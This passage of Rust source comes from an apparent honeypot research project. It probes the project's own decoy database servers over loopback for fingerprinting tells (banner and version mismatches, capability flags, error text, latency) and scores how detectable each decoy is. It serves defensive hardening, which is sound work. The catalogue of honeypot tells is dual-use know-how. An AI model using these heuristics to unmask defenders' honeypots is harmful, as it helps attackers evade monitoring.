    /// Scorecard key of the surface that leaked.
    pub family: String,
    /// The stage that fired: `banner`, `capability`, `error`, `timing`.
    pub probe: &'static str,
    /// Score contribution of this finding.
    pub weight: u32,
    /// Human-readable description of the tell.
    pub detail: String,
}

fn finding(surface: &Surface, probe: &'static str, weight: u32, detail: String) -> ProbeFinding {
    ProbeFinding {
        family: surface.family.clone(),
        probe,
        weight,
        detail,
    }
}

/// Stage 1: banner presence and banner/handshake version agreement.
pub fn probe_banner(surface: &Surface) -> Vec<ProbeFinding> {
    let mut out = Vec::new();
    if surface.banner.is_empty() {
        out.push(finding(
            surface,
            "banner",
            3,
            "no banner captured: the service refused the stock banner request".to_string(),
        ));
        return out;
    }
    let version = surface.fact("version").unwrap_or("");
    match surface.family.as_str() {
        "redis" => {
            let advertised = format!("redis_version:{version}");
            if !surface.banner.contains("redis_version:") {
                out.push(finding(
                    surface,
                    "banner",
                    3,
                    "INFO server omits redis_version".to_string(),
                ));
            } else if !version.is_empty() && !surface.banner.contains(&advertised) {
                out.push(finding(
                    surface,
                    "banner",
                    3,
                    format!("INFO redis_version disagrees with the HELLO version {version}"),
                ));
            }
        }
        "postgres" => {
            if !surface.banner.starts_with("PostgreSQL ") {
                out.push(finding(
                    surface,
                    "banner",
                    3,
                    "version() does not start with 'PostgreSQL '".to_string(),
                ));
            } else {
                let short = version.split_whitespace().next().unwrap_or("");
                if !short.is_empty() && !surface.banner.contains(short) {
                    out.push(finding(
                        surface,
                        "banner",
                        3,
                        format!(
                            "version() banner disagrees with the server_version parameter {short}"
                        ),
                    ));
                }
            }
        }
        "elastic" => {
            let advertised = format!("\"number\":\"{version}\"");
            if !version.is_empty() && !surface.banner.contains(&advertised) {
                out.push(finding(
                    surface,
                    "banner",
                    3,
                    format!("root document version.number disagrees with {version}"),
                ));
            }
        }
        _ => {
            // mysql / mongodb / couchdb: the banner is (or embeds) the
            // advertised version string itself.
            if !version.is_empty() && !surface.banner.contains(version) {
                out.push(finding(
                    surface,
                    "banner",
                    3,
                    format!("banner does not carry the advertised version {version}"),
                ));
            }
        }
    }
    if surface.family.as_str() == "mysql" {
        if let (Some(version), Some(queried)) =
            (surface.fact("version"), surface.fact("query_version"))
        {
            if !queried.contains(version) {
                out.push(finding(
                    surface,
                    "banner",
                    3,
                    format!(
                        "SELECT @@version returned '{queried}' but the greeting advertised {version}"
                    ),
                ));
            }
        }
    }
    out
}

fn is_hex(s: &str) -> bool {
    !s.is_empty() && s.chars().all(|c| c.is_ascii_hexdigit())
}

/// Stage 2: capability-flag coherence for the advertised version.
pub fn probe_capability(surface: &Surface) -> Vec<ProbeFinding> {
    let mut out = Vec::new();
    let version = surface.fact("version").unwrap_or("");
    match surface.family.as_str() {
        "mongodb" => {
            let pairs = [("4.2", "8"), ("4.4", "9"), ("5.0", "13"), ("6.0", "17")];
            let wire = surface.fact("maxWireVersion").unwrap_or("");
            if let Some((_, want)) = pairs.iter().find(|(series, _)| version.starts_with(series)) {
                if wire != *want {
                    out.push(finding(
                        surface,
                        "capability",
                        4,
                        format!(
                            "server {version} must speak maxWireVersion {want}, advertised {wire}"
                        ),
                    ));
                }
            }
            let sha = surface.fact("gitVersion").unwrap_or("");
            if sha.len() != 40 || !is_hex(sha) {
                out.push(finding(
                    surface,
                    "capability",
                    2,
                    "gitVersion is not a 40-hex commit hash".to_string(),
                ));
            }
        }
        "elastic" => {
            let pairs = [("5.6", "6.6"), ("6.8", "7.7"), ("7.17", "8.11")];
            let lucene = surface.fact("lucene_version").unwrap_or("");
            if let Some((_, want)) = pairs.iter().find(|(series, _)| version.starts_with(series)) {
                if !lucene.starts_with(want) {
                    out.push(finding(
                        surface,
                        "capability",
                        4,
                        format!("Elasticsearch {version} ships Lucene {want}.x, advertised {lucene}"),
                    ));
                }
            }
        }
        "redis" => {
            let pre6 = ["3.", "4.", "5."].iter().any(|s| version.starts_with(s));
            let proto = surface.fact("proto").unwrap_or("");
            if pre6 && proto != "2" {
                out.push(finding(
                    surface,
                    "capability",
                    4,
                    format!("RESP{proto} advertised by a pre-6 server ({version})"),
                ));
            }
        }
        "mysql" => {
            if surface.fact("protocol").unwrap_or("") != "10" {
                out.push(finding(
                    surface,
                    "capability",
                    4,
                    "greeting does not use protocol version 10".to_string(),
                ));
            }
            let plugin = surface.fact("auth_plugin").unwrap_or("");
            let known = ["mysql_native_password", "caching_sha2_password"];
            if !known.contains(&plugin) {
                out.push(finding(
                    surface,
                    "capability",
                    2,
                    format!("unknown auth plugin '{plugin}' in the greeting"),
                ));
            }
        }
        "couchdb" => {
            let sha = surface.fact("git_sha").unwrap_or("");
            if !is_hex(sha) {
                out.push(finding(
                    surface,
                    "capability",
                    2,
                    "git_sha is not a hex commit prefix".to_string(),
                ));
            }
        }
        _ => {}
    }
    out
}

/// Stage 3: error-catalog fidelity for malformed and unknown requests.
pub fn probe_errors(surface: &Surface) -> Vec<ProbeFinding> {
    let mut out = Vec::new();
    match surface.family.as_str() {
        "redis" => {
            if !surface.error_unknown.starts_with("ERR unknown command `") {
                out.push(finding(
                    surface,
                    "error",
                    3,
                    "unknown-command error does not use the backtick format real servers ship"
                        .to_string(),
                ));
            }
        }
        "mysql" => {
            if !surface.error_syntax.contains("check the manual")
                || !surface.error_syntax.ends_with("at line 1")
            {
                out.push(finding(
                    surface,
                    "error",
                    3,
                    "ER_PARSE_ERROR text is missing the manual clause real servers ship"
                        .to_string(),
                ));
            }
        }
        "postgres" => {
            if !surface.error_syntax.starts_with("syntax error at or near") {
                out.push(finding(
                    surface,
                    "error",
                    3,
                    "parse error is not the stock 'syntax error at or near' message".to_string(),
                ));
            }
        }
        "mongodb" => {
            if !surface.error_unknown.contains("codeName") {
                out.push(finding(
                    surface,
                    "error",
                    3,
                    "command error omits the codeName field every real 3.4+ server returns"
                        .to_string(),
                ));
            }
        }
        "elastic" => {
            if !surface.error_unknown.contains("resource.type")
                || !surface.error_unknown.contains("index_uuid")
            {
                out.push(finding(
                    surface,
                    "error",
                    3,
                    "index_not_found_exception omits the resource.* / index_uuid fields"
                        .to_string(),
                ));
            }
        }
        "couchdb" => {
            if surface.error_unknown != "{\"error\":\"not_found\",\"reason\":\"missing\"}" {
                out.push(finding(
                    surface,
                    "error",
                    3,
                    "missing-database body differs from the canonical not_found document"
                        .to_string(),
                ));
            }
        }
        _ => {}
    }
    out
}

/// Minimum latency samples before the timing stage will judge a surface.
pub const MIN_TIMING_SAMPLES: usize = 8;

/// Stage 4: latency-distribution plausibility.
///
/// Real networked databases show milliseconds-scale medians with a
/// visible spread; canned in-process responders answer in tens of
/// microseconds with near-zero variance. Fewer than
/// [`MIN_TIMING_SAMPLES`] samples is treated as inconclusive.
pub fn probe_timing(surface: &Surface) -> Vec<ProbeFinding> {
    let mut out = Vec::new();
    if surface.timing_us.len() < MIN_TIMING_SAMPLES {
        return out;
    }
    let mut sorted = surface.timing_us.clone();
    sorted.sort_unstable();
    let median = sorted.get(sorted.len() / 2).copied().unwrap_or(0);
    let min = sorted.first().copied().unwrap_or(0);
    let max = sorted.last().copied().unwrap_or(0);
    let mut distinct = sorted.clone();
    distinct.dedup();
    if distinct.len() <= 2 {
        out.push(finding(
            surface,
            "timing",
            3,
            format!(
                "response latency is effectively constant ({} distinct values over {} samples)",
                distinct.len(),
                sorted.len()
            ),
        ));
    }
    if median < 400 {
        out.push(finding(
            surface,
            "timing",
            2,
            format!("median round trip of {median}us is faster than any real networked DBMS"),
        ));
    }
    if max.saturating_sub(min) < 200 {
        out.push(finding(
            surface,
            "timing",
            1,
            format!(
                "latency band of {}us is implausibly narrow for a database under load",
                max.saturating_sub(min)
            ),
        ));
    }
    out
}

/// Run all four probe stages against one surface.
pub fn run_all(surface: &Surface) -> Vec<ProbeFinding> {
    let mut out = probe_banner(surface);
    out.extend(probe_capability(surface));
    out.extend(probe_errors(surface));
    out.extend(probe_timing(surface));
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plausible_redis() -> Surface {
        let mut s = Surface::named("redis");
        s.banner = "# Server\r\nredis_version:5.0.7\r\n".to_string();
        s.error_unknown = "ERR unknown command `BOGUS`, with args beginning with: ".to_string();
        s.push_fact("version", "5.0.7");
        s.push_fact("proto", "2");
        s.timing_us = (0..24).map(|i| 2_100 + 173 * i).collect();
        s
    }

    #[test]
    fn a_coherent_surface_yields_no_findings() {
        assert_eq!(run_all(&plausible_redis()), Vec::new());
    }

    #[test]
    fn an_empty_banner_is_a_tell() {
        let mut s = plausible_redis();
        s.banner.clear();
        let hits = probe_banner(&s);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits.first().map(|f| f.weight), Some(3));
    }

    #[test]
    fn banner_version_disagreement_is_a_tell() {
        let mut s = plausible_redis();
        s.banner = "# Server\r\nredis_version:6.2.0\r\n".to_string();
        assert_eq!(probe_banner(&s).len(), 1);
    }

    #[test]
    fn resp3_on_a_pre6_server_is_a_tell() {
        let mut s = plausible_redis();
        s.facts.retain(|(k, _)| k != "proto");
        s.push_fact("proto", "3");
        let hits = probe_capability(&s);
        assert_eq!(hits.first().map(|f| f.weight), Some(4));
    }

    #[test]
    fn mongo_wire_version_mismatch_is_a_tell() {
        let mut s = Surface::named("mongodb");
        s.banner = "4.4.18".to_string();
        s.error_unknown = "code=59 codeName=CommandNotFound".to_string();
        s.push_fact("version", "4.4.18");
        s.push_fact("maxWireVersion", "8");
        s.push_fact("gitVersion", "8ed32b5c2c68ebe7f8ae2ebe8d23f36037a17dea");
        let hits = probe_capability(&s);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits.first().map(|f| f.weight), Some(4));
    }

    #[test]
    fn quoted_unknown_command_format_is_a_tell() {
        let mut s = plausible_redis();
        s.error_unknown = "ERR unknown command 'BOGUS'".to_string();
        assert_eq!(probe_errors(&s).len(), 1);
    }

    #[test]
    fn constant_and_instant_latency_fires_all_three_timing_probes() {
        let mut s = plausible_redis();
        s.timing_us = vec![45; 24];
        let hits = probe_timing(&s);
        assert_eq!(hits.iter().map(|f| f.weight).sum::<u32>(), 6);
    }

    #[test]
    fn too_few_timing_samples_are_inconclusive() {
        let mut s = plausible_redis();
        s.timing_us = vec![45; MIN_TIMING_SAMPLES - 1];
        assert!(probe_timing(&s).is_empty());
    }
}
