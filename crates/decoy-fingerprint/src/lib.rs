//! `decoy-fingerprint`: the fingerprinting arms race, instrumented.
//!
//! The paper's deployment depends on attackers treating the decoys as
//! real databases; a scanner that can cheaply distinguish a honeypot
//! changes the observed attack mix. This crate keeps the fleet honest
//! with a three-part loop:
//!
//! * [`probes`] -- a multistage probe battery (banner consistency,
//!   capability-flag coherence, error-catalog fidelity, timing
//!   distribution) that inspects a captured [`Surface`] the way a
//!   fingerprinting scanner would and emits weighted findings.
//! * [`engine`] -- drives that battery against live honeypot listeners
//!   over loopback TCP using the genuine client codecs.
//! * [`score`] -- folds findings into a per-family detectability
//!   [`Scorecard`], persisted as `FINGERPRINT_BASELINE.json` with a
//!   write-baseline ratchet that refuses regressions.
//!
//! [`corpus`] pins the pre-hardening surfaces so the score improvement
//! from the hardening layer (`decoy_honeypots::catalog`, the seeded
//! latency shaper in `decoy-net`) stays measurable and regression-proof.

#![cfg_attr(not(test), deny(clippy::unwrap_used))]
#![cfg_attr(not(test), deny(clippy::expect_used))]
#![cfg_attr(not(test), deny(clippy::indexing_slicing))]
#![cfg_attr(not(test), deny(clippy::panic))]
#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod corpus;
pub mod engine;
pub mod probes;
pub mod score;

pub use engine::{fingerprint_fleet, EngineOptions};
pub use probes::{run_all, ProbeFinding, Surface, FAMILIES};
pub use score::Scorecard;

/// Probe a set of surfaces and fold the findings into a scorecard.
pub fn evaluate(surfaces: &[Surface]) -> (Vec<ProbeFinding>, Scorecard) {
    let findings: Vec<ProbeFinding> = surfaces.iter().flat_map(probes::run_all).collect();
    let card = Scorecard::tally(&findings);
    (findings, card)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn evaluate_scores_the_hardened_corpus_at_zero() {
        let (findings, card) = evaluate(&corpus::hardened());
        assert!(findings.is_empty(), "{findings:?}");
        assert_eq!(card.total(), 0);
    }
}
