//! The frozen regression corpus: pre- and post-hardening surfaces.
//!
//! [`legacy`] reconstructs what the fleet looked like to a scanner
//! *before* the hardening layer landed: ad-hoc error strings, and the
//! constant tens-of-microseconds response time of an unshapped
//! in-process responder. [`hardened`] builds the same six surfaces from
//! the live sources of truth -- [`decoy_honeypots::catalog`] renderers
//! and constants for text, a seeded [`LatencyShaper`] for timing -- so
//! the corpus cannot drift from what the honeypots actually serve.
//!
//! The golden tests at the bottom pin the exact pre-hardening scores
//! and prove the hardening measurably lowers every family's score.

use std::fmt::Write as _;

use decoy_honeypots::catalog;
use decoy_net::latency::{LatencyProfile, LatencyShaper};

use crate::probes::Surface;

/// Latency samples recorded per corpus surface.
pub const TIMING_SAMPLES: usize = 24;

fn shaped_timing(session: u64) -> Vec<u64> {
    let shaper = LatencyShaper::new(11, LatencyProfile::lan());
    (0..TIMING_SAMPLES as u64)
        .map(|op| shaper.delay_for(session, op).as_micros() as u64)
        .collect()
}

fn render<F: Fn(&mut String) -> std::fmt::Result>(f: F) -> String {
    let mut out = String::new();
    let _ = f(&mut out);
    out
}

fn base_mysql() -> Surface {
    let mut s = Surface::named("mysql");
    s.banner = catalog::MYSQL_VERSION.to_string();
    s.push_fact("version", catalog::MYSQL_VERSION);
    s.push_fact("query_version", catalog::MYSQL_VERSION);
    s.push_fact("protocol", "10");
    s.push_fact("auth_plugin", "mysql_native_password");
    s
}

fn base_postgres() -> Surface {
    let mut s = Surface::named("postgres");
    s.banner = catalog::PG_VERSION_BANNER.to_string();
    s.push_fact("version", catalog::PG_SERVER_VERSION);
    s
}

fn base_mongodb() -> Surface {
    let mut s = Surface::named("mongodb");
    s.banner = catalog::MONGO_VERSION.to_string();
    s.push_fact("version", catalog::MONGO_VERSION);
    s.push_fact("gitVersion", catalog::MONGO_GIT_VERSION);
    let mut wire = String::new();
    let _ = write!(wire, "{}", catalog::MONGO_MAX_WIRE_VERSION);
    s.push_fact("maxWireVersion", wire);
    s
}

fn base_redis() -> Surface {
    let mut s = Surface::named("redis");
    s.banner = render(|out| {
        write!(
            out,
            "# Server\r\nredis_version:{}\r\nredis_mode:standalone\r\n",
            catalog::REDIS_VERSION
        )
    });
    s.push_fact("version", catalog::REDIS_VERSION);
    s.push_fact("proto", "2");
    s
}

fn base_elastic() -> Surface {
    let mut s = Surface::named("elastic");
    s.banner = render(|out| {
        write!(
            out,
            "{{\"name\":\"node-1\",\"version\":{{\"number\":\"{}\",\"build_hash\":\"{}\",\"lucene_version\":\"{}\"}}}}",
            catalog::ELASTIC_VERSION,
            catalog::ELASTIC_BUILD_HASH,
            catalog::LUCENE_VERSION
        )
    });
    s.push_fact("version", catalog::ELASTIC_VERSION);
    s.push_fact("lucene_version", catalog::LUCENE_VERSION);
    s
}

fn base_couchdb() -> Surface {
    let mut s = Surface::named("couchdb");
    s.banner = render(|out| {
        write!(
            out,
            "{{\"couchdb\":\"Welcome\",\"version\":\"{}\",\"git_sha\":\"{}\"}}",
            catalog::COUCH_VERSION,
            catalog::COUCH_GIT_SHA
        )
    });
    s.push_fact("version", catalog::COUCH_VERSION);
    s.push_fact("git_sha", catalog::COUCH_GIT_SHA);
    s
}

/// The six fleet surfaces as the hardening layer serves them today:
/// error text straight from the catalog renderers, timing drawn from
/// the seeded LAN latency shaper.
pub fn hardened() -> Vec<Surface> {
    let mut mysql = base_mysql();
    mysql.error_syntax = render(|out| catalog::mysql_syntax_error(out, "FINGERPRINT PROBE"));
    let mut postgres = base_postgres();
    postgres.error_syntax = render(|out| catalog::pg_syntax_error(out, "FROBNICATE"));
    let mut mongodb = base_mongodb();
    mongodb.error_unknown = render(|out| {
        write!(
            out,
            "ok=0 errmsg=no such command: 'fingerprintprobe' code=59 codeName={}",
            catalog::mongo_code_name(59)
        )
    });
    let mut redis = base_redis();
    redis.error_unknown =
        render(|out| catalog::redis_unknown_command(out, "FINGERPRINTPROBE", ["arg"]));
    let mut elastic = base_elastic();
    elastic.error_unknown =
        render(|out| catalog::elastic_index_not_found(out, "fingerprint_probe"));
    let mut couchdb = base_couchdb();
    couchdb.error_unknown = render(|out| catalog::couch_not_found(out));
    let mut surfaces = vec![mysql, postgres, mongodb, redis, elastic, couchdb];
    for (i, s) in surfaces.iter_mut().enumerate() {
        s.timing_us = shaped_timing(i as u64);
    }
    surfaces
}

/// The six fleet surfaces as they looked *before* the hardening layer:
/// the frozen ad-hoc error strings the honeypots used to ship, plus the
/// constant sub-millisecond timing of an unshaped canned responder.
pub fn legacy() -> Vec<Surface> {
    let mut mysql = base_mysql();
    mysql.error_syntax =
        "You have an error in your SQL syntax near 'FINGERPRINT PROBE'".to_string();
    let mut postgres = base_postgres();
    // Postgres already shipped the stock parser message pre-hardening.
    postgres.error_syntax = "syntax error at or near \"FROBNICATE\"".to_string();
    let mut mongodb = base_mongodb();
    mongodb.error_unknown =
        "ok=0 errmsg=no such command: 'fingerprintprobe' code=59".to_string();
    let mut redis = base_redis();
    redis.error_unknown = "ERR unknown command 'FINGERPRINTPROBE'".to_string();
    let mut elastic = base_elastic();
    elastic.error_unknown =
        "{\"error\":{\"root_cause\":[{\"type\":\"index_not_found_exception\",\"reason\":\"no such index\"}]},\"status\":404}".to_string();
    let mut couchdb = base_couchdb();
    // CouchDB's not_found body was already canonical pre-hardening.
    couchdb.error_unknown = render(|out| catalog::couch_not_found(out));
    let mut surfaces = vec![mysql, postgres, mongodb, redis, elastic, couchdb];
    for s in surfaces.iter_mut() {
        s.timing_us = vec![45; TIMING_SAMPLES];
    }
    surfaces
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::probes::run_all;
    use crate::score::Scorecard;

    fn score(surfaces: &[Surface]) -> Scorecard {
        let findings: Vec<_> = surfaces.iter().flat_map(run_all).collect();
        Scorecard::tally(&findings)
    }

    #[test]
    fn golden_legacy_scores_are_pinned() {
        // Error-catalog misses (+3) where the old strings were ad hoc,
        // plus the constant-instant-narrow timing triple (+6) everywhere.
        let card = score(&legacy());
        assert_eq!(card.get("mysql"), Some(9));
        assert_eq!(card.get("redis"), Some(9));
        assert_eq!(card.get("mongodb"), Some(9));
        assert_eq!(card.get("elastic"), Some(9));
        assert_eq!(card.get("postgres"), Some(6));
        assert_eq!(card.get("couchdb"), Some(6));
    }

    #[test]
    fn hardened_surfaces_score_zero() {
        let surfaces = hardened();
        let findings: Vec<_> = surfaces.iter().flat_map(run_all).collect();
        assert!(findings.is_empty(), "unexpected tells: {findings:?}");
        assert_eq!(score(&surfaces).total(), 0);
    }

    #[test]
    fn hardening_lowers_every_family_score() {
        let before = score(&legacy());
        let after = score(&hardened());
        for (family, was) in before.entries() {
            let now = after.get(family).unwrap_or(0);
            assert!(
                now < *was,
                "{family}: hardened score {now} is not below legacy {was}"
            );
        }
    }

    #[test]
    fn a_broken_banner_raises_the_score() {
        let mut surfaces = hardened();
        let clean = score(&surfaces);
        if let Some(mongo) = surfaces.iter_mut().find(|s| s.family == "mongodb") {
            mongo.facts.retain(|(k, _)| k != "maxWireVersion");
            mongo.push_fact("maxWireVersion", "8");
            mongo.banner = "4.2.0".to_string();
        }
        let broken = score(&surfaces);
        // Wire-version incoherence (+4) and banner disagreement (+3).
        assert_eq!(
            broken.get("mongodb"),
            Some(clean.get("mongodb").unwrap_or(0) + 7)
        );
    }
}
