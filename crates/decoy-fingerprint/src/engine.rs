//! The live probe engine: drives the multistage battery against real
//! honeypot listeners over loopback TCP and captures one
//! [`Surface`] per protocol family.
//!
//! Each capture session speaks the genuine client protocol (the same
//! codecs attackers' tools use): it completes the handshake, records
//! the banner and every advertised fact, elicits error text with a
//! deliberately malformed or unknown request, then measures the latency
//! of repeated cheap round trips. The captured surfaces feed
//! [`crate::probes::run_all`] and [`crate::score::Scorecard::tally`]
//! exactly like the frozen corpus does.

use std::fmt::Write as _;
use std::net::SocketAddr;
use std::time::Instant;

use decoy_net::framed::Framed;
use decoy_net::server::ListenerOptions;
use decoy_store::{ConfigVariant, Dbms, EventStore, HoneypotId, InteractionLevel};
use decoy_wire::mongo::bson::{doc, Document};
use decoy_wire::mongo::{MongoCodec, MongoMessage};
use decoy_wire::{http, mysql, pgwire, resp};
use tokio::net::TcpStream;

use crate::probes::Surface;

type Fail = Box<dyn std::error::Error + Send + Sync>;

/// How the engine deploys and probes the fleet.
#[derive(Debug, Clone)]
pub struct EngineOptions {
    /// Listener options every spawned honeypot runs with; set
    /// `listener.latency` to probe a shaped fleet.
    pub listener: ListenerOptions,
    /// Round trips measured by the timing stage, per family.
    pub timing_samples: usize,
    /// Fake-data seed for the spawned honeypots.
    pub seed: u64,
}

impl Default for EngineOptions {
    fn default() -> Self {
        EngineOptions {
            listener: ListenerOptions::default(),
            timing_samples: 24,
            seed: 11,
        }
    }
}

/// Spawn each of the six deploy-spec honeypot families on loopback,
/// capture its probe surface, and shut it down again.
pub async fn fingerprint_fleet(options: &EngineOptions) -> std::io::Result<Vec<Surface>> {
    use decoy_honeypots::deploy::{spawn_with_options, HoneypotSpec};

    let targets: [(HoneypotId, CaptureFn); 6] = [
        (
            HoneypotId::new(
                Dbms::MySql,
                InteractionLevel::Medium,
                ConfigVariant::Default,
                0,
            ),
            |a, n| Box::pin(capture_mysql(a, n)),
        ),
        (
            HoneypotId::new(
                Dbms::Postgres,
                InteractionLevel::Medium,
                ConfigVariant::Default,
                0,
            ),
            |a, n| Box::pin(capture_postgres(a, n)),
        ),
        (
            HoneypotId::new(
                Dbms::MongoDb,
                InteractionLevel::High,
                ConfigVariant::FakeData,
                0,
            ),
            |a, n| Box::pin(capture_mongodb(a, n)),
        ),
        (
            HoneypotId::new(
                Dbms::Redis,
                InteractionLevel::Medium,
                ConfigVariant::Default,
                0,
            ),
            |a, n| Box::pin(capture_redis(a, n)),
        ),
        (
            HoneypotId::new(
                Dbms::Elastic,
                InteractionLevel::Medium,
                ConfigVariant::Default,
                0,
            ),
            |a, n| Box::pin(capture_elastic(a, n)),
        ),
        (
            HoneypotId::new(
                Dbms::CouchDb,
                InteractionLevel::Medium,
                ConfigVariant::FakeData,
                0,
            ),
            |a, n| Box::pin(capture_couchdb(a, n)),
        ),
    ];

    let mut surfaces = Vec::with_capacity(targets.len());
    for (id, capture) in targets {
        let store = EventStore::new();
        let spec = HoneypotSpec::loopback(id, options.listener.clock.clone(), options.seed);
        let hp = spawn_with_options(store, spec, options.listener.clone()).await?;
        let surface = capture(hp.addr(), options.timing_samples)
            .await
            .map_err(|e| {
                std::io::Error::other(format!("probing {:?} at {}: {e}", id.dbms, hp.addr()))
            });
        hp.shutdown().await;
        surfaces.push(surface?);
    }
    Ok(surfaces)
}

type CaptureFn = fn(
    SocketAddr,
    usize,
) -> std::pin::Pin<Box<dyn std::future::Future<Output = Result<Surface, Fail>> + Send>>;

async fn dial(addr: SocketAddr) -> Result<TcpStream, Fail> {
    let stream = TcpStream::connect(addr).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// MySQL: greeting facts, `SELECT @@version` cross-check, a parse
/// error, then COM_PING round trips.
async fn capture_mysql(addr: SocketAddr, samples: usize) -> Result<Surface, Fail> {
    let mut s = Surface::named("mysql");
    let mut f = Framed::new(dial(addr).await?, mysql::MySqlCodec);
    let greeting_pkt = f.read_frame().await?.ok_or("no greeting")?;
    let greeting = mysql::Greeting::parse(&greeting_pkt.payload)?;
    s.banner = greeting.server_version.clone();
    s.push_fact("version", greeting.server_version.clone());
    // Greeting::parse only accepts protocol version 10 frames.
    s.push_fact("protocol", "10");
    s.push_fact("auth_plugin", greeting.auth_plugin.clone());
    let login = mysql::LoginRequest::cleartext("root", "fingerprint", None);
    f.write_frame(&mysql::MySqlPacket {
        seq: greeting_pkt.seq.wrapping_add(1),
        payload: login.build(),
    })
    .await?;
    let reply = f.read_frame().await?.ok_or("no auth reply")?;
    if reply.payload.first() != Some(&0x00) {
        return Err("login rejected".into());
    }
    let mut q = vec![0x03];
    q.extend_from_slice(b"SELECT @@version");
    f.write_frame(&mysql::MySqlPacket {
        seq: 0,
        payload: q.into(),
    })
    .await?;
    // column-count, definition, EOF, row, EOF
    for i in 0..5 {
        let pkt = f.read_frame().await?.ok_or("result truncated")?;
        if i == 3 {
            // Single-column row: one length-prefixed string value.
            let text = pkt
                .payload
                .get(1..)
                .map(|b| String::from_utf8_lossy(b).into_owned())
                .unwrap_or_default();
            s.push_fact("query_version", text);
        }
    }
    let mut bad = vec![0x03];
    bad.extend_from_slice(b"FINGERPRINT PROBE");
    f.write_frame(&mysql::MySqlPacket {
        seq: 0,
        payload: bad.into(),
    })
    .await?;
    let err = f.read_frame().await?.ok_or("no error reply")?;
    if let Some((_, message)) = mysql::parse_err(&err.payload) {
        s.error_syntax = message;
    }
    for _ in 0..samples {
        let t0 = Instant::now();
        f.write_frame(&mysql::MySqlPacket {
            seq: 0,
            payload: vec![0x0e].into(),
        })
        .await?;
        f.read_frame().await?.ok_or("no ping reply")?;
        s.timing_us.push(t0.elapsed().as_micros() as u64);
    }
    Ok(s)
}

/// Postgres: startup parameters, `SELECT version();`, a parse error,
/// then `SELECT 1` round trips.
async fn capture_postgres(addr: SocketAddr, samples: usize) -> Result<Surface, Fail> {
    let mut s = Surface::named("postgres");
    let mut f = Framed::new(dial(addr).await?, pgwire::PgClientCodec::new());
    f.write_frame(&pgwire::FrontendMessage::Startup {
        params: vec![
            ("user".into(), "postgres".into()),
            ("database".into(), "postgres".into()),
        ],
    })
    .await?;
    loop {
        match f.read_frame().await?.ok_or("closed during auth")? {
            pgwire::BackendMessage::AuthenticationCleartextPassword
            | pgwire::BackendMessage::AuthenticationMd5Password { .. } => {
                f.write_frame(&pgwire::FrontendMessage::Password("postgres".into()))
                    .await?;
            }
            pgwire::BackendMessage::ParameterStatus { name, value } => {
                if name == "server_version" {
                    s.push_fact("version", value.clone());
                }
                s.push_fact(&name, value);
            }
            pgwire::BackendMessage::ReadyForQuery { .. } => break,
            pgwire::BackendMessage::ErrorResponse { message, .. } => {
                return Err(format!("login rejected: {message}").into());
            }
            _ => continue,
        }
    }
    f.write_frame(&pgwire::FrontendMessage::Query("SELECT version();".into()))
        .await?;
    loop {
        match f.read_frame().await?.ok_or("closed mid query")? {
            pgwire::BackendMessage::DataRow { values } => {
                if let Some(Some(banner)) = values.first() {
                    s.banner = banner.clone();
                }
            }
            pgwire::BackendMessage::ReadyForQuery { .. } => break,
            _ => continue,
        }
    }
    f.write_frame(&pgwire::FrontendMessage::Query("FROBNICATE the catalog".into()))
        .await?;
    loop {
        match f.read_frame().await?.ok_or("closed mid error")? {
            pgwire::BackendMessage::ErrorResponse { code, message, .. } => {
                s.error_syntax = message;
                s.push_fact("sqlstate", code);
            }
            pgwire::BackendMessage::ReadyForQuery { .. } => break,
            _ => continue,
        }
    }
    for _ in 0..samples {
        let t0 = Instant::now();
        f.write_frame(&pgwire::FrontendMessage::Query("SELECT 1".into()))
            .await?;
        loop {
            match f.read_frame().await?.ok_or("closed mid ping")? {
                pgwire::BackendMessage::ReadyForQuery { .. } => break,
                _ => continue,
            }
        }
        s.timing_us.push(t0.elapsed().as_micros() as u64);
    }
    f.write_frame(&pgwire::FrontendMessage::Terminate).await?;
    Ok(s)
}

/// MongoDB: `buildInfo` and `isMaster` facts, an unknown command, then
/// `ping` round trips.
async fn capture_mongodb(addr: SocketAddr, samples: usize) -> Result<Surface, Fail> {
    let mut s = Surface::named("mongodb");
    let mut f = Framed::new(dial(addr).await?, MongoCodec);
    let mut rid = 0i32;
    let mut command = |doc| {
        rid += 1;
        MongoMessage::msg(rid, doc)
    };

    f.write_frame(&command(doc! { "buildInfo" => 1i32, "$db" => "admin" }))
        .await?;
    let reply = f.read_frame().await?.ok_or("no buildInfo reply")?;
    let info = reply.command_doc().ok_or("buildInfo reply had no body")?;
    if let Some(version) = info.get_str("version") {
        s.banner = version.to_string();
        s.push_fact("version", version);
    }
    if let Some(sha) = info.get_str("gitVersion") {
        s.push_fact("gitVersion", sha);
    }

    f.write_frame(&command(doc! { "isMaster" => 1i32, "$db" => "admin" }))
        .await?;
    let reply = f.read_frame().await?.ok_or("no isMaster reply")?;
    let hello = reply.command_doc().ok_or("isMaster reply had no body")?;
    if let Some(wire) = hello.get_f64("maxWireVersion") {
        let mut text = String::new();
        let _ = write!(text, "{}", wire as i64);
        s.push_fact("maxWireVersion", text);
    }

    f.write_frame(&command(
        doc! { "fingerprintProbe" => 1i32, "$db" => "admin" },
    ))
    .await?;
    let reply = f.read_frame().await?.ok_or("no error reply")?;
    let err = reply.command_doc().ok_or("error reply had no body")?;
    s.error_unknown = render_doc(err);

    for _ in 0..samples {
        let t0 = Instant::now();
        f.write_frame(&command(doc! { "ping" => 1i32, "$db" => "admin" }))
            .await?;
        f.read_frame().await?.ok_or("no ping reply")?;
        s.timing_us.push(t0.elapsed().as_micros() as u64);
    }
    Ok(s)
}

fn render_doc(doc: &Document) -> String {
    let mut out = String::new();
    for (key, value) in doc.iter() {
        if !out.is_empty() {
            out.push(' ');
        }
        if let Some(text) = value.as_str() {
            let _ = write!(out, "{key}={text}");
        } else if let Some(number) = value.as_f64() {
            let _ = write!(out, "{key}={number}");
        } else {
            let _ = write!(out, "{key}=?");
        }
    }
    out
}

/// Redis: HELLO facts, `INFO server` banner, an unknown command, then
/// PING round trips.
async fn capture_redis(addr: SocketAddr, samples: usize) -> Result<Surface, Fail> {
    let mut s = Surface::named("redis");
    let mut f = Framed::new(dial(addr).await?, resp::RespCodec::client());
    f.write_frame(&resp::RespValue::command(&["HELLO"])).await?;
